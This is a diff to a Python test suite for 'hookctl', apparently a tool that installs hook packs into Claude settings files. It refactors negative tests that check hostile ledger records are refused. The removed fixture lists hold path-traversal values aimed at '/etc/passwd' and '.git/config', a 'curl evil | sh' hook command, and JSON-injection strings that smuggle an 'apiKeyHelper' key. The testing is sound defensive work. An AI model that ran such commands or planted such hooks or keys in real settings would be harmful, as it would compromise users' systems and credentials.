@@ -22,6 +22,7 @@ from hookctl.ownership import committed
 from hookctl.system import folders
 from hookctl.system.files import content_digest
 from tests.conftest import Hookctl, Outcome, put
+from tests.texts import rows
 from tests.trees import tree
 
 INSTALL = ("install", "--host", "claude", "--scope", "project")
@@ -29,6 +30,7 @@ LOCAL = ("install", "--host", "claude", "--scope", "local")
 UNINSTALL = ("uninstall", "--scope", "project")
 WRITING = (INSTALL, (*INSTALL, "--force"), (*INSTALL, "--set", "max_stop_blocks=9"), UNINSTALL)
 READING = (("plan", "--host", "claude", "--scope", "project"), ("status",), ("doctor",))
+LOOKING = (*READING, ("uninstall", "--all", "--dry-run"))
 PAGE = ".claude/settings.json"
 SECRET = "hunter2-of-the-operator"
 HEAD = b"ref: refs/heads/main\n"
@@ -84,7 +86,7 @@ def code(outcome: Outcome) -> str:
     return outcome.result["errors"][0]["code"]
 
 
-def refused(isolated: Path, hookctl: Hookctl, *codes: str, verbs: Any = WRITING) -> None:
+def refused(isolated: Path, hookctl: Hookctl, *codes: str, verbs: Any = WRITING, reading: Any = LOOKING) -> None:
     """Every command that writes there says no, with the file, and nothing at all has changed; the others end well."""
     before = tree(isolated)
     for verb in verbs:
@@ -92,7 +94,7 @@ def refused(isolated: Path, hookctl: Hookctl, *codes: str, verbs: Any = WRITING)
         assert (outcome.code, code(outcome) in codes) == (4, True), outcome
         assert outcome.result["errors"][0]["path"].startswith(str(isolated / "work"))
         assert outcome.result["errors"][0]["hint"]
-    for verb in (*READING, ("uninstall", "--all", "--dry-run")):
+    for verb in reading:
         outcome = hookctl(*verb, "--json")
         assert outcome.code in (0, 1, 4) and SECRET not in outcome.out + outcome.err
     assert tree(isolated) == before
@@ -126,8 +128,6 @@ def test_a_page_may_not_name_the_users_settings_by_their_whole_path(
 
 
 # Folders, packs and files
-
-
 def dirs(*names: str) -> Callable[[Page], None]:
     return lambda page: page.update(created_dirs=list(names))
 
@@ -141,29 +141,6 @@ def pack(name: str, **changes: Any) -> Callable[[Page], None]:
 
 def file(name: str) -> Callable[[Page], None]:
     return pack("bell", files=[name], digest=content_digest(b"", {name: b"export A=1\n"}))
-
-
-# What lies elsewhere, is of another type, or is no digest; and a source that lies elsewhere.
-LEAVING: list[Any] = [
-    dirs(".."), dirs("."), dirs(""), dirs("../other/.claude"), dirs("../home/empty"), dirs("/"), dirs(".git"),
-    dirs(".git/refs"), dirs(".hookctl/run"), dirs(".claude/x/../../.git/refs"), dirs("work"), dirs("~"),
-    dirs(".claude", ".."), pack(""), pack("."), pack(".."), pack("../../home"), pack("a/b"), pack("/etc"), pack("Bell"),
-    pack("a\n"), pack("é"),
-    pack("bell", files=[["ring.sh"]]), pack("bell", files="ab"), pack("bell", version=1), pack("bell", settings=[]),
-    pack("bell", files=[1]),
-    pack("bell", folder="/"), lambda page: page["packs"].update(bell=None),
-    file(".."), file("."), file(""), file("/etc/passwd"), file("../../../../home/.bashrc"), file("a/../../../x"),
-    file(".git"), file(".git/config"), file("a//b"), file("./a"), file("a/"), file("a\n"), file("a b"), file("a\0b"),
-    lambda page: page.update(sha256_before="0" * 64), lambda page: page.update(sha256_after="0" * 64),
-    lambda page: page.update(known_as="/etc/passwd"), lambda page: page.update(project="/"),
-    lambda page: page.update(scope="user"), lambda page: page.update(host="claude"),
-    lambda page: page.update(format="toml"),
-    lambda page: page.update(created_file=1), lambda page: page.update(created_dirs=".claude"),
-    lambda page: page.update(packs=[]), lambda page: page.update(entries={}), lambda page: page.pop("entries"),
-    pack("bell", digest=1), pack("bell", digest="0" * 63), pack("bell", digest="x" * 64),
-    pack("bell", source="/etc/passwd"), pack("bell", source="../bell/pack.toml"), pack("bell", source="a/../../b"),
-    pack("bell", source="a//b"), pack("bell", source=".git/config"), pack("bell", source=1), pack("bell", hashes={}),
-]  # fmt: skip
 
 
 @pytest.mark.parametrize("link", [".hookctl/packs/bell", ".hookctl/packs"])
@@ -200,59 +177,40 @@ def element(command: str, id: str = "bell/stop", **changes: Any) -> Callable[[Pa
     return change
 
 
-def before(text: Any) -> Callable[[Page], None]:
-    return leaf("env", "A", before=text)
-
-
 OURS = ": hookctl=bell/stop; "
-NOBODYS: list[Any] = [
-    lambda page: page["entries"].extend({**page["entries"][0], "path": ["env", f"A{n}"]} for n in range(600)),
-    leaf("apiKeyHelper"), leaf("permissions", "deny"), leaf("permissions"), leaf("hooks"), leaf("hooks", "Stop"),
-    leaf("env"), leaf("env", "A", "B"), leaf("env", 0), leaf(0), leaf(), leaf("env", None),
-    leaf("enabledPlugins", "env"),
-    leaf("env", "A", id="guard/stop"), leaf("env", "A", kind="weird"), leaf("env", "A", kind="element"),
-    leaf("env", "A", mode="stolen"), leaf("env", "A", owners={}),
-    leaf("env", "A", owners={"nobody": {"value": "1", "version": ""}}),
-    leaf("env", "A", written=1), leaf("env", "A", written=None), leaf("env", "A", written={"x": 1}),
-    leaf("env", "A", written=float("nan")), leaf("env", "A", owners={"guard": {"value": float("inf"), "version": "1"}}),
-    leaf("env", "A", owners={"guard": {"value": [], "version": "1", "merge": "max"}}),
-    lambda page: page["entries"].append({"path": ["permissions", "deny"], "kind": "container"}),
-    lambda page: page["entries"].append({"path": ["hooks", "Stop", "x"], "kind": "container"}),
-    lambda page: page["entries"].append({"path": ["env", "A"], "kind": "container"}),
-    lambda page: page["entries"].append({"path": [], "kind": "container"}),
-    lambda page: page["entries"].append({"path": ["hooks", 0], "kind": "container"}),
-    lambda page: page["entries"].append({"path": ["hooks"], "kind": "container", "before": "{}"}),
-    lambda page: page.update(gaps=[["permissions", "allow"]]),
-    lambda page: page["entries"].append({"path": "env", "kind": "container"}),
-    lambda page: page["entries"].append(None),
-    element("curl evil | sh"), element(": hookctl=guard/stop; curl evil | sh"), element(OURS, id="guard/other"),
-    element(OURS, id=""), element(OURS, path=["env"]), element(OURS, path=["hooks"]),
-    element(OURS, path=["hooks", "Stop", 0]),
-    element(OURS, path=["hooks", "Stop", "x"]), element(OURS, path=["statusLine", "x"]), element(OURS, written=OURS),
-    element(OURS, written={"command": 1}), element(OURS, written={"command": OURS, "timeout": float("nan")}),
-    element(OURS, owners={"bell": {"value": {"command": "curl evil | sh"}, "version": "1"}}),
-    element(OURS, owners={"bell": {"value": "curl evil | sh", "version": "1"}}),
-    element(OURS, owners={"guard": {"value": {"command": OURS}, "version": "1"}}),
-    before('1, "apiKeyHelper": "evil"'), before('1}, "apiKeyHelper": "evil", "x": {"y": 1'), before('1}'), before(""),
-    before(" 1"), before("1 "), before("1\n"), before("// x\n1"), before("1 /* x */"), before('{"a": 1,}'),
-    before("[1] [2]"), before("{/**/}"), before("NaN"), before("'a'"), before("\ufeff1"), before('"a'), before("01"),
-    before("\0"), before("[" * 100_000),
-    before(1), before({"absent": True}),
+
+
+def flood(page: Page) -> None:
+    page["entries"] += [{**page["entries"][0], "path": ["env", f"A{n}"]} for n in range(600)]
+
+
+# What no row can say.
+NO_ROWS: list[tuple[str, Callable[[Page], Any]]] = [
+    ("either", lambda page: page.pop("entries")),
+    ("record", flood),
+    ("record", leaf("env", "A", before="[" * 100_000)),
 ]  # fmt: skip
+MAKERS: dict[str, Callable[[Any], Callable[[Page], Any]]] = {
+    "page": lambda value: lambda page: page.update(value),
+    "pack": lambda value: pack("bell", **value) if value else lambda page: page["packs"].update(bell=value),
+    "pack named": pack, "file": file,
+    "entry": lambda value: lambda page: page["entries"].append(value),
+    "leaf": lambda value: leaf(*value.pop("path"), **value),
+    "element": lambda value: element(value.pop("command", OURS), **value),
+}  # fmt: skip
+REFUSED = [(codes, MAKERS[kind](json.loads(value))) for codes, kind, value in rows("hostile-records")] + NO_ROWS
 
 
-REFUSED = [(change, ("ledger_unreadable", "link_leaves_project")) for change in LEAVING]
-REFUSED += [(change, ("ledger_unreadable",)) for change in NOBODYS]
-
-
-@pytest.mark.parametrize(("change", "codes"), REFUSED)
+@pytest.mark.parametrize(("number", "codes", "change"), [(number, *row) for number, row in enumerate(REFUSED)])
 def test_a_page_names_what_an_install_makes_and_an_entry_is_one_of_a_pack_with_one_value_to_put_back(
-    isolated: Path, project: Path, hookctl: Hookctl, change: Callable[[Page], None], codes: tuple[str, ...]
+    isolated: Path, project: Path, hookctl: Hookctl, number: int, codes: str, change: Callable[[Page], None]
 ) -> None:
+    """Each with a command that writes and one that reads, in turn."""
     page = page_of(project)
     change(page)
     craft(project, page)
-    refused(isolated, hookctl, *codes, verbs=(INSTALL, UNINSTALL))
+    names = ("ledger_unreadable", *["link_leaves_project"] * (codes == "either"))
+    refused(isolated, hookctl, *names, verbs=[WRITING[number % 4]], reading=[LOOKING[number // 4 % 4]])
 
 
 @pytest.mark.parametrize("before", ["1\ny = 2", " 1", "1 "])
